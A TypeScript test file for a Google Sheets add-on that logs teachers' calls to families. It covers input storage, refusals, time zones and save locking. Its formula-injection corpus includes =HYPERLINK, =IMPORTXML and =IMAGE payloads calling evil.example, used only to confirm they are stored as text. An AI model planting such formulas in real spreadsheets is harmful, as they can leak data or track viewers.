@@ -1,0 +1,352 @@
+/**
+ * logCall and getSidebarContext of the real dist/Code.js in the emulator, against the issue's list
+ * of bad input and faults: what a teacher types is stored as text and reads back exactly, refused
+ * calls leave no row and say why, interleaved saves never overwrite each other, and a busy lock says
+ * "try again". Run through the emulator's workbook, so a formula would really evaluate.
+ */
+import type { Workbook } from '../../emulator';
+import type { CallInput, FamilyKnowledge, LogCallResult, SidebarContext } from '../../src/common/rpc';
+import { DEFAULT_PROMPTS, FAMILY_KNOWLEDGE_COLUMNS } from '../../src/common/schema';
+import { ANA, ANA_GOAL, BEN, callInput, callRows, column, FAMILY, PRINCIPAL, school } from './school-fixture';
+
+/** Texts a spreadsheet would read as a formula, a number or a command if written as typed. */
+const INJECTIONS = [
+  '=1+1',
+  '+1 555 0100',
+  '-2+3',
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '=HYPERLINK("http://evil.example/steal","Click me")',
+  '=IMPORTXML("http://evil.example/x","//a")',
+  '=IMAGE("http://evil.example/pixel.png")',
+];
+
+/** Every field a teacher types free text into. */
+const FREE_TEXT = ['personReached', 'strengths', 'hopes', 'learned', 'followUp'] as const;
+
+const HEADER_OF: Record<(typeof FREE_TEXT)[number], string> = {
+  personReached: 'Person Reached',
+  strengths: 'Strengths the Family Sees',
+  hopes: 'Family Hopes',
+  learned: 'What I Learned',
+  followUp: 'Follow-up Needed',
+};
+
+function log(emu: ReturnType<typeof school>['emu'], input: CallInput, user = ANA) {
+  return emu.run<LogCallResult>('logCall', [input], { user });
+}
+
+const formulasOf = (workbook: Workbook, tab: string) => workbook.formulas(tab).flat().filter(Boolean);
+
+/** 'YYYY-MM-DD' of now in a time zone, shifted by whole days. */
+function dayIn(timeZone: string, shiftDays = 0): string {
+  const at = new Date(Date.now() + shiftDays * 86_400_000);
+  return new Intl.DateTimeFormat('en-CA', {
+    timeZone,
+    year: 'numeric',
+    month: '2-digit',
+    day: '2-digit',
+  }).format(at);
+}
+
+describe('what a teacher types is stored as text and reads back exactly', () => {
+  test('the injection corpus in every free-text field: no formula on the Call Log or Families, same text back', () => {
+    const { workbook, emu } = school();
+    // One family per text, so each family's record holds exactly one of them.
+    const ids = INJECTIONS.map((_, i) => `inj${i + 1}`);
+    workbook.appendRows(
+      'Families',
+      ids.map((id, i) => [`'${id}`, `Test Family ${i + 1}`, "'3", ANA]),
+    );
+    INJECTIONS.forEach((text, i) => {
+      const fields = Object.fromEntries(FREE_TEXT.map((f) => [f, text]));
+      const run = log(emu, callInput({ ...fields, studentId: ids[i], saveToFamily: true }));
+      expect(run.error).toBeUndefined();
+      expect(run.result?.written).toBe(true);
+    });
+    expect(formulasOf(workbook, 'Call Log')).toEqual([]);
+    for (const field of FREE_TEXT) expect(column(workbook, 'Call Log', HEADER_OF[field])).toEqual(INJECTIONS);
+
+    // Saved to each family's record too: text on the sheet, and the add-on reads it back as typed.
+    const familyIds = column(workbook, 'Families', 'Student ID');
+    const [head = []] = workbook.values('Families');
+    const formulaRows = workbook.formulas('Families').slice(1);
+    for (const header of ["Child's Strengths and Interests", 'Hopes This Year']) {
+      const at = head.indexOf(header);
+      expect(at).toBeGreaterThanOrEqual(0);
+      const cells = ids.map((id) => formulaRows[familyIds.indexOf(id)]?.[at] ?? '');
+      expect(cells).toEqual(ids.map(() => ''));
+      const values = ids.map((id) => column(workbook, 'Families', header)[familyIds.indexOf(id)]);
+      expect(values).toEqual(INJECTIONS);
+    }
+    const known = ids.map((id) => emu.call<FamilyKnowledge>('getFamilyKnowledge', [id], { user: ANA }).known);
+    expect(known.map((k) => k["Child's Strengths and Interests"])).toEqual(INJECTIONS);
+    expect(known.map((k) => k['Hopes This Year'])).toEqual(INJECTIONS);
+  });
+
+  test('emoji and right-to-left text round-trip, in notes and in a family name copied to the log', () => {
+    const { workbook, emu } = school();
+    workbook.appendRows('Families', [["'s4", 'يوسف النجار 🌟', "'2", ANA]]);
+    const typed = {
+      personReached: 'فاطمة النجار',
+      strengths: '👩‍👧 loves drawing 🎨 and football ⚽',
+      hopes: 'שתקרא ספרים השנה — to read chapter books',
+      learned: 'Prefers WhatsApp \u200fبعد الساعة ٦\u200f; 🇸🇾 Arabic at home',
+      followUp: 'Send the 📚 list',
+    };
+    const run = log(emu, callInput({ studentId: 's4', language: 'Arabic', ...typed }));
+    expect(run.error).toBeUndefined();
+    const [row] = callRows(workbook);
+    expect(row?.['Student Name']).toBe('يوسف النجار 🌟');
+    for (const field of FREE_TEXT) expect(row?.[HEADER_OF[field]]).toBe(typed[field]);
+  });
+});
+
+describe('refused or ignored, with a sentence and no row', () => {
+  test('50,000-character notes are refused with the limit in the sentence', () => {
+    const { workbook, emu } = school();
+    for (const field of ['strengths', 'hopes', 'learned', 'followUp'] as const) {
+      const run = log(emu, callInput({ [field]: 'x'.repeat(50_000) }));
+      expect(run.error?.message).toMatch(
+        /50,000 characters; the limit is 2,000\. Shorten it and save again\./,
+      );
+    }
+    expect(callRows(workbook)).toEqual([]);
+  });
+
+  test('a blank Session email is refused: nothing is logged with no teacher', () => {
+    const { workbook, emu } = school();
+    for (const fn of ['logCall', 'getSidebarContext']) {
+      const run = emu.run(fn, fn === 'logCall' ? [callInput()] : [], { user: '' });
+      expect(run.error?.message).toMatch(/cannot tell which Google account you are signed in with/);
+    }
+    expect(callRows(workbook)).toEqual([]);
+  });
+
+  test('a family that is not on Families is refused', () => {
+    const { workbook, emu } = school();
+    const run = log(emu, callInput({ studentId: 's404' }));
+    expect(run.error?.message).toMatch(/That family is not on the Families tab.*Choose the family again/);
+    expect(callRows(workbook)).toEqual([]);
+  });
+
+  test("a future date is refused by the sheet's calendar, not the server's", () => {
+    // Kiritimati (UTC+14) is always a day or two ahead of Pago Pago (UTC-11).
+    const ahead = 'Pacific/Kiritimati';
+    const behind = 'Pacific/Pago_Pago';
+
+    const east = school({ timeZone: ahead });
+    expect(log(east.emu, callInput({ callDate: dayIn(ahead) })).error).toBeUndefined();
+    expect(log(east.emu, callInput({ callDate: dayIn(ahead, 1) })).error?.message).toMatch(
+      /is in the future\. Log a call once it has happened\./,
+    );
+    expect(callRows(east.workbook)).toHaveLength(1);
+
+    const west = school({ timeZone: behind });
+    const todayThere = west.emu.call<SidebarContext>('getSidebarContext', [], { user: ANA }).today;
+    expect(todayThere).toBe(dayIn(behind));
+    expect(log(west.emu, callInput({ callDate: dayIn(ahead) })).error?.message).toMatch(/is in the future/);
+    expect(callRows(west.workbook)).toEqual([]);
+  });
+
+  test('a replayed submission id is ignored: one row, and a sentence saying so', () => {
+    const { workbook, emu } = school();
+    const input = callInput();
+    expect(log(emu, input).result?.written).toBe(true);
+    const again = log(emu, input);
+    expect(again.error).toBeUndefined();
+    expect(again.result).toMatchObject({ written: false, progress: { done: 1 } });
+    expect(again.result?.message).toMatch(/already logged, so it was not saved twice/);
+    expect(column(workbook, 'Call Log', 'Submission ID')).toEqual([input.submissionId]);
+  });
+
+  test('a teacher who is not on Teachers is told to ask the principal, and nothing is logged', () => {
+    const { workbook, emu } = school();
+    const stranger = 'cleo.park@maple.example';
+    for (const fn of ['getSidebarContext', 'logCall']) {
+      const run = emu.run(fn, fn === 'logCall' ? [callInput()] : [], { user: stranger });
+      expect(run.error?.message).toContain(
+        `You are signed in as ${stranger}, which is not on the Teachers tab`,
+      );
+      expect(run.error?.message).toMatch(/Ask your principal to add a row for you on the Teachers tab/);
+    }
+    expect(callRows(workbook)).toEqual([]);
+  });
+});
+
+describe("the sidebar's context and the family's record", () => {
+  test('getSidebarContext: own families first, progress toward the goal, the pick-lists', () => {
+    const { emu } = school();
+    const before = emu.call<SidebarContext>('getSidebarContext', [], { user: BEN });
+    expect(before.teacher).toEqual({ name: 'Ben Okafor', email: BEN });
+    expect(before.families.map((f) => [f.studentName, f.own])).toEqual([
+      [FAMILY.omar.name, true],
+      [FAMILY.leo.name, false],
+      [FAMILY.mia.name, false],
+    ]);
+
+    const ana = () => emu.call<SidebarContext>('getSidebarContext', [], { user: ANA });
+    expect(ana().families.map((f) => f.studentId)).toEqual([FAMILY.leo.id, FAMILY.mia.id, FAMILY.omar.id]);
+    expect(ana().progress).toMatchObject({
+      goal: ANA_GOAL,
+      done: 0,
+      ownFamilies: 2,
+      ownFamiliesNotReached: 2,
+      status: 'Not started',
+    });
+    expect(ana().pickLists.outcomes).toContain('Reached');
+
+    log(
+      emu,
+      callInput({
+        studentId: FAMILY.mia.id,
+        outcome: 'No answer',
+        personReached: '',
+        relationship: '',
+        strengths: '',
+        hopes: '',
+      }),
+    );
+    const logged = log(emu, callInput({ studentId: FAMILY.leo.id }));
+    expect(logged.result?.progress).toMatchObject({ done: 1, calls: 2, ownFamiliesNotReached: 1 });
+    expect(logged.result?.message).toBe(`Call logged: 1 of ${ANA_GOAL} conversations.`);
+    const after = ana();
+    expect(after.progress).toEqual(logged.result?.progress);
+    expect(after.families.find((f) => f.studentId === FAMILY.leo.id)).toMatchObject({
+      reached: true,
+      attempts: 1,
+    });
+    expect(after.families.find((f) => f.studentId === FAMILY.mia.id)).toMatchObject({
+      reached: false,
+      attempts: 1,
+    });
+  });
+
+  test("'save to the family's record' fills the Families knowledge columns and the prompts for them go", () => {
+    const { workbook, emu } = school();
+    const prompts = () => emu.call<FamilyKnowledge>('getFamilyKnowledge', [FAMILY.leo.id], { user: ANA });
+    const blank = prompts();
+    expect(blank.unknown).toEqual(FAMILY_KNOWLEDGE_COLUMNS);
+    expect(blank.prompts).toEqual(DEFAULT_PROMPTS);
+
+    const first = log(
+      emu,
+      callInput({ strengths: 'Builds bridges out of LEGO', hopes: 'Make a new friend', saveToFamily: true }),
+    );
+    expect(first.result?.message).toMatch(
+      /Saved strengths the family sees and the family's hopes this year to the family's record\./,
+    );
+    const knowledge = (id: string, header: string) =>
+      column(workbook, 'Families', header)[column(workbook, 'Families', 'Student ID').indexOf(id)];
+    expect(knowledge(FAMILY.leo.id, "Child's Strengths and Interests")).toBe('Builds bridges out of LEGO');
+    expect(knowledge(FAMILY.leo.id, 'Hopes This Year')).toBe('Make a new friend');
+    expect(knowledge(FAMILY.mia.id, "Child's Strengths and Interests")).toBe('');
+
+    // A second teacher adds to what is there, on a new line; the same words are not repeated.
+    log(
+      emu,
+      callInput({ strengths: 'Sings in the choir', hopes: 'Make a new friend', saveToFamily: true }),
+      ANA,
+    );
+    expect(knowledge(FAMILY.leo.id, "Child's Strengths and Interests")).toBe(
+      'Builds bridges out of LEGO\nSings in the choir',
+    );
+    expect(knowledge(FAMILY.leo.id, 'Hopes This Year')).toBe('Make a new friend');
+
+    const now = prompts();
+    expect(now.unknown).not.toContain("Child's Strengths and Interests");
+    expect(now.unknown).not.toContain('Hopes This Year');
+    expect(now.prompts).not.toContain(DEFAULT_PROMPTS[1]);
+    expect(now.prompts).not.toContain(DEFAULT_PROMPTS[2]);
+    expect(now.prompts).toContain(DEFAULT_PROMPTS[3]);
+    expect(now.lastContact).toBe('2026-09-14');
+
+    // Left unticked, the family's record is not touched.
+    log(emu, callInput({ strengths: 'Likes maths', saveToFamily: false }));
+    expect(knowledge(FAMILY.leo.id, "Child's Strengths and Interests")).not.toContain('Likes maths');
+  });
+});
+
+describe('saves that happen at the same time', () => {
+  const SAVES = 30;
+  const inputs = () =>
+    Array.from({ length: SAVES }, (_, i) => ({
+      user: i % 2 ? BEN : ANA,
+      input: callInput({
+        studentId: i % 2 ? FAMILY.omar.id : i % 4 ? FAMILY.mia.id : FAMILY.leo.id,
+        learned: `Interleaved call ${i + 1}`,
+      }),
+    }));
+
+  // The same 30 saves, once with Apps Script's document lock and once with LockService made a no-op
+  // (emulator option locks: 'no-op'): without the lock, saves that read the Call Log at the same
+  // time write to the same row, and every teacher was still told "Call logged".
+  test.each([
+    ['with the document lock', 'exclusive', true],
+    ['with the lock removed', 'no-op', false],
+  ] as const)('%s: 30 interleaved saves', async (_name, locks, keepsEveryRow) => {
+    const { workbook, emu } = school({ emulator: { locks } });
+    const sent = inputs();
+    const runs = await emu.runConcurrently(
+      sent.map(({ user, input }) => ({ fn: 'logCall', args: [input], user })),
+    );
+    expect(runs.map((r) => r.error?.message)).toEqual(sent.map(() => undefined));
+    expect(runs.every((r) => (r.result as LogCallResult).written)).toBe(true);
+
+    const rows = callRows(workbook);
+    const learned = rows.map((r) => r['What I Learned']).sort();
+    const expected = sent.map((s) => s.input.learned).sort();
+    if (keepsEveryRow) {
+      expect(learned).toEqual(expected);
+      expect(rows.map((r) => r['Submission ID']).sort()).toEqual(
+        sent.map((s) => s.input.submissionId).sort(),
+      );
+      // Each row is whole: its own teacher, family and submission id, as sent.
+      for (const row of rows) {
+        const from = sent.find((s) => s.input.submissionId === row['Submission ID']);
+        expect([row['Teacher Email'], row['Student ID'], row['What I Learned']]).toEqual([
+          from?.user,
+          from?.input.studentId,
+          from?.input.learned,
+        ]);
+      }
+    } else {
+      expect(rows.length).toBeLessThan(SAVES);
+    }
+  });
+
+  test('a save that cannot get the lock says the spreadsheet is busy, and writes nothing', async () => {
+    // Another execution of the same project holds the document lock until the test lets it go.
+    const holder = `function holdDocumentLock() {
+      var lock = LockService.getDocumentLock();
+      lock.waitLock(1000);
+      var props = PropertiesService.getDocumentProperties();
+      props.setProperty('held', 'yes');
+      while (!props.getProperty('release')) Utilities.sleep(20);
+      lock.releaseLock();
+      return 'released';
+    }`;
+    const { workbook, emu } = school({ extraCode: { 'zz-holder.js': holder } });
+    let settled = false;
+    const holding = emu.runConcurrently([{ fn: 'holdDocumentLock', user: PRINCIPAL }]).finally(() => {
+      settled = true;
+    });
+    const store = emu.properties('document');
+    while (store.get('held') !== 'yes' && !settled) await new Promise((resolve) => setTimeout(resolve, 10));
+
+    // emu.run holds the main thread, so its tryLock cannot be granted and times out at once.
+    const busy = log(emu, callInput());
+    store.set('release', 'yes');
+    const [held] = await holding;
+    expect(held?.result).toBe('released');
+    expect(busy.error?.message).toBe(
+      'The spreadsheet is busy saving other calls. Nothing was saved: press Log call again in a moment.',
+    );
+    expect(callRows(workbook)).toEqual([]);
+
+    // Once the lock is free, the same call saves.
+    expect(log(emu, callInput()).result?.written).toBe(true);
+  });
+});
